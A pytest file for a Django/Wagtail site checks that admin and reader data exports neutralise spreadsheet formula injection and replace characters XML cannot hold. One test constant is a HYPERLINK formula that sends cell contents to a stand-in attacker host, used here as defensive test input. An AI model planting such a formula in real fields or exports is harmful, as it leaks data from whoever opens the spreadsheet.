"""What a reader typed never runs as a formula in the spreadsheet an editor opens."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.comments.helpers import approved
from tests.downloads.helpers import requested
from tests.support import export_rows
from voorproef.essays.models import EssayPage
from voorproef.mail.models import OutgoingMail
from voorproef.privacy.services import holdings_csv, holdings_find

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


def _body(response: Any) -> bytes:
    """An export's bytes (Wagtail streams them)."""
    return b"".join(response.streaming_content)


def _rows(response: object) -> list[list[str]]:
    return export_rows(response)


def test_admin_csv_exports_keep_formulas_as_text(editor_client: Client, essay: EssayPage) -> None:
    requested(essay, name=FORMULA)
    approved(essay, name="@SUM(1+1)", email="bert@example.nl", text="-2+3")
    approved(essay, name="Carla", email="carla@example.nl", text="Gewoon = tekst.")

    requests = _rows(editor_client.get("/admin/download_requests/?export=csv"))
    assert [cell for cell in requests[1] if "HYPERLINK" in cell] == ["'" + FORMULA]
    comments = _rows(editor_client.get("/admin/snippets/comments/comment/?export=csv"))
    row = next(r for r in comments[1:] if "'@SUM(1+1)" in r)
    assert "'-2+3" in row
    # Ordinary text is left as it is.
    assert "Gewoon = tekst." in {cell for r in comments[1:] for cell in r}


def test_the_readers_own_csv_keeps_formulas_as_text(essay: EssayPage) -> None:
    requested(essay, name=FORMULA)
    rows = list(
        csv.DictReader(
            io.StringIO(
                holdings_csv(holdings_find("anna@example.nl"), "download_requests").lstrip("\ufeff")
            )
        )
    )
    assert rows[0]["naam"] == "'" + FORMULA


@pytest.mark.parametrize(
    "url",
    [
        "/admin/download_requests/?export=xlsx",
        "/admin/snippets/comments/comment/?export=xlsx",
        "/admin/outgoing_mail/?export=xlsx",
    ],
)
def test_text_xml_cannot_hold_is_replaced_visibly_in_xlsx(
    editor_client: Client, essay: EssayPage, url: str
) -> None:
    # Stored before names were cleaned of non-characters, or typed into a comment.
    requested(essay, name="Anna\ufffe\x0b")
    approved(essay, name="Bert\uffff", email="bert@example.nl", text="Zie \ufffe hier.")
    OutgoingMail.objects.create(kind="download", to="a@example.nl", subject="Voor Anna\ufffe")
    response = editor_client.get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response))).active
    assert sheet is not None
    cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
    assert cells & {"Anna\ufffd\ufffd", "Bert\ufffd", "Voor Anna\ufffd"}
    assert not any("\ufffe" in cell or "\uffff" in cell for cell in cells)
